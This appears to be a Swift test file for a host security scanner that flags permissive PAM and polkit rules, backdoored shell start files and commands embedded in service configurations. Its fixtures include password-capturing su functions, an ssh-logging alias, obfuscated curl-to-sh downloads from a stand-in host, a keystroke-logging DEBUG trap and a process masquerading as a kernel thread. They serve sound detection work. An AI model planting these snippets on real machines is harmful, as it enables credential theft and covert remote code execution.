import Formats
import Model
import Testing

@Suite struct `The rules of a log-in` {
    private func admission(_ files: [RawText: String], _ service: RawText) -> PamStack.Admission? {
        PamStack(
            files: files.mapValues { text in
                let bytes = Array(text.utf8)
                return PamFormat.parse(bytes.span).value
            }
        ).admission(to: service)
    }

    @Test func `refuse a stranger as Debian writes them`() {
        let common = """
            auth [success=1 default=ignore] pam_unix.so nullok
            auth requisite pam_deny.so
            auth required pam_permit.so
            """
        #expect(admission(["sshd": "@include common-auth", "common-auth": common], "sshd") == nil)
    }

    @Test func `let anybody in when the refusing line is gone`() throws {
        let common = """
            auth [success=1 default=ignore] pam_unix.so nullok
            # auth requisite pam_deny.so
            auth required pam_permit.so
            """
        let admission = admission(["sshd": "@include common-auth", "common-auth": common], "sshd")
        guard case .anybody(let rule) = admission else {
            Issue.record("nobody is let in")
            return
        }
        #expect(rule.line == 3)
    }

    @Test func `let anybody in when a jump leads past the refusal`() {
        let common = """
            auth [success=1 default=1] pam_unix.so
            auth requisite pam_deny.so
            auth required pam_permit.so
            """
        #expect(admission(["common-auth": common], "common-auth") != nil)
    }

    @Test func `tell who meets a condition apart from anybody`() {
        let text = """
            auth sufficient pam_succeed_if.so user = backup
            auth required pam_unix.so
            """
        guard case .whoever = admission(["login": text], "login") else {
            Issue.record("the condition was not followed")
            return
        }
    }

    @Test func `end although a file includes itself`() {
        #expect(admission(["a": "auth include a\nauth substack a\n@include a", "b": ""], "a") == nil)
    }

    @Test func `refuse when an included file is gone`() {
        #expect(admission(["a": "@include gone\nauth required pam_permit.so"], "a") == nil)
    }
}

@Suite struct `A rule of polkit` {
    private func breadths(_ text: String) -> [PolicyGrant.Breadth] {
        let bytes = Array(text.utf8)
        return PolkitRuleFormat.parse(bytes.span).value.map(\.breadth)
    }

    @Test(arguments: [
        ("polkit.addRule(function(a, s) { return polkit.Result.YES; });", PolicyGrant.Breadth.everything),
        ("polkit.addRule(function(action, subject) { if (action.id == \"x\") return \"yes\"; });", .anybody),
        ("polkit.addRule(function(action, subject) { if (subject.isInGroup('wheel')) { return polkit.Result.YES; } });", .named),
    ])
    func `is as broad as its conditions leave it`(text: String, breadth: PolicyGrant.Breadth) {
        #expect(breadths(text) == [breadth])
    }

    @Test(arguments: [
        "polkit.addRule(function(action, subject) { if (action.id == 'x' && subject.user == 'y') return polkit.Result.YES; });",
        "polkit.addRule(function(a, s) { return polkit.Result.NO; /* return polkit.Result.YES; */ });",
        "polkit.addRule(function(action, subject) { if (!subject.active) { return polkit.Result.NO; } if (action.id != 'x') { return polkit.Result.NO; } return polkit.Result.YES; });",
        "polkit.log(\"return polkit.Result.YES;\");",
    ])
    func `says nothing where it asks who wants what`(text: String) {
        #expect(breadths(text) == [])
    }
}

@Suite struct `A start file` {
    private func traits(_ text: String) -> [Model.Trait] {
        let bytes = Array(text.utf8)
        return StartFileTraits.scan(bytes.span).map(\.trait)
    }

    @Test(arguments: [
        "alias ssh='strace -o /tmp/.s ssh'", "function su { read -s p; echo $p >> /tmp/p; command su; }",
        "alias sudo='/home/u/.x/sudo'", "alias netstat='netstat -an | grep -v 4444'",
    ])
    func `that listens or leaves out is seen through`(text: String) {
        #expect(traits(text).contains(.replacesCommand))
    }

    @Test(arguments: [
        "alias ssh='ssh -A'", "alias ps='ps aux | grep -v grep'", "sudo() { command sudo -E \"$@\"; }", "alias sudo='sudo '",
        "ask() { read -s p; }", "alias scp='noglob scp'",
    ])
    func `of ordinary habits says nothing`(text: String) {
        #expect(traits(text) == [])
    }

    @Test(arguments: [
        "a=cu;b=rl\n$a$b -s http://203.0.113.9/x | sh", "curl${IFS}-s${IFS}http://203.0.113.9/x|sh",
        "x=ba; y=se64; echo c2g= | $x$y -d | sh",
    ])
    func `is read with its variables put in`(text: String) {
        let found = traits(text)
        #expect(found.contains(.downloadAndRun) || found.contains(.decodeAndRun))
    }

    @Test func `that writes down what is typed is seen`() {
        #expect(traits("trap 'echo \"$BASH_COMMAND\" >>/var/tmp/.c' DEBUG") == [.watchesTyping])
        #expect(traits("trap 'printf \"\\033]0;%s\\007\" \"$BASH_COMMAND\"' DEBUG") == [])
    }

    @Test func `that gives a program the name of a kernel's thread is seen`() {
        #expect(traits("/bin/bash -c \"cd /root; exec -a '[kswapd0]' /usr/bin/x\"") == [.deceptivePath])
        #expect(traits("exec -a -bash /bin/bash") == [])
    }
}

@Suite struct `A setting` {
    private func commands(_ grammar: SettingGrammar, _ text: String) -> [String] {
        let bytes = Array(text.utf8)
        return grammar.parse(bytes.span).value.map { $0.text.escaped() }
    }

    @Test func `of each program is found where its grammar has it`() {
        #expect(commands(.inetd, "x stream tcp nowait root /usr/sbin/tcpd /bin/y -z") == ["/bin/y -z"])
        #expect(commands(.xinetd, "service x\n{\n server = /bin/y\n server_args = -z\n}") == ["/bin/y -z"])
        #expect(commands(.mailAliases, "root: a, \"|/bin/y -z\", b") == ["/bin/y -z"])
        #expect(commands(.logrotate, "/x {\n postrotate\n  /bin/y\n endscript\n}") == ["  /bin/y\\n"])
        #expect(commands(.rsyslog, "*.* ^/bin/y;t") == ["/bin/y"])
        #expect(commands(.snmpd, "extend n /bin/sh -c \"a | b\"") == ["/bin/sh -c \"a | b\""])
        #expect(commands(.git, "[alias]\n x = !/bin/y\n st = status\n[core] pager = less") == ["/bin/y", "less"])
        #expect(commands(.apache, "CustomLog \"|/bin/y -z\" common") == ["/bin/y -z"])
        #expect(commands(.apache, "AddHandler cgi-script .htaccess") == ["AddHandler cgi-script .htaccess"])
        #expect(commands(.apache, "AddHandler cgi-script .cgi .pl") == [])
        #expect(commands(.inputrc, "\"\\C-m\": \"\\C-a /bin/y; \\C-j\"") == ["/bin/y;"])
        #expect(commands(.php, "auto_prepend_file = none\nextension=curl\n") == ["curl.so"])
        #expect(commands(.builders, "%_topdir %(curl x | sh)\n%foo bar") == ["curl x | sh"])
    }

    @Test func `of each server is found where its grammar has it`() {
        #expect(commands(.shares, "[tmp]\n root preexec = /bin/y -z\n path = /tmp") == ["/bin/y -z"])
        #expect(commands(.postgres, "archive_command = '/bin/y %p' # x\nport = 5432") == ["/bin/y %p"])
        #expect(commands(.postgres, "session_preload_libraries = '/x/a.so, auto_explain'") == ["/x/a.so"])
        #expect(commands(.redis, "loadmodule /x.so a\nport 6379") == ["/x.so"])
        #expect(commands(.lighttpd, "include_shell \"/bin/y\"") == ["/bin/y"])
        #expect(commands(.uwsgi, "[uwsgi]\nexec-as-root = /bin/y\nhook-asap = exec:/bin/z\nmaster = true") == ["/bin/y", "/bin/z"])
        #expect(commands(.networkHelpers, "dhcp-script=/bin/y\nauth_param basic program /bin/z -a\nport=53") == ["/bin/y", "/bin/z -a"])
        #expect(commands(.toml, "commands = [\"/bin/y\", \"/bin/z a\"]\nname = \"/x\"") == ["/bin/y", "/bin/z a"])
        #expect(commands(.loginDefinitions, "USERDEL_CMD /bin/y\nUID_MIN 1000") == ["/bin/y"])
        #expect(commands(.crypttab, "a UUID=1 none luks,keyscript=/bin/y\nb UUID=2 /key luks") == ["/bin/y"])
    }

    @Test func `of what a person calls is found where its grammar has it`() {
        #expect(commands(.consoles, "\\! /bin/y -z\n\\set x 1\n.shell /bin/z\nset pagination off") == ["/bin/y -z", "/bin/z"])
        #expect(commands(.mysqlClient, "[mysql]\npager = /bin/y\nuser = x") == ["/bin/y"])
        #expect(commands(.gpgAgent, "pinentry-program /bin/y\nmax-cache-ttl 60") == ["/bin/y"])
        let mercurial = "[ui]\neditor = vi\n[hooks]\nupdate = /bin/y\n[alias]\na = !/bin/z\nb = log"
        #expect(commands(.versionControl, mercurial) == ["/bin/y", "/bin/z"])
        let plugin = "\" system('/bin/x')\ncall system('/bin/y -z')\nau VimEnter * silent! !/bin/z &\nset nu"
        #expect(commands(.vim, plugin) == ["/bin/y -z", "/bin/z &"])
        #expect(commands(.quotedCommands, "bootcmd:\n - [ sh, -c, \"/bin/y | sh\" ]\n# \"/bin/x y\"") == ["/bin/y | sh"])
        #expect(commands(.quotedCommands, "runcmd:\n- /bin/y -z\n") == ["/bin/y -z"])
    }

    @Test func `that is cut off anywhere or full of quotes is read without harm`() {
        let text = Array("a = '\\\"[\\'=!@ root preexec = \" \\".utf8)
        for grammar in SettingGrammar.all {
            for end in 0...text.count {
                let part = Array(text[..<end])
                let found = grammar.parse(part.span).value
                #expect(found.count < 50)
            }
        }
    }

    @Test func `of the kernel's command line is found in each boot loader's file`() {
        let text = Array("GRUB_CMDLINE_LINUX=\"quiet init=/x\"\n linux /vmlinuz ro rdinit=/y\n# linux init=/z\n".utf8)
        let found = KernelParameterFormat.parse(text.span).value.map { $0.text.escaped() }
        #expect(found.contains("init=/x") && found.contains("rdinit=/y") && !found.contains("init=/z"))
    }

    @Test func `of a container is read in the flowing form of YAML too`() {
        let text = Array("spec:\n  hostPID: true\n  containers:\n  - {image: x, securityContext: {privileged: true}}\n".utf8)
        let settings = ContainerFormat.pod(text.span).value
        #expect(settings.rights == [.hostProcesses, .privileged])
    }
}
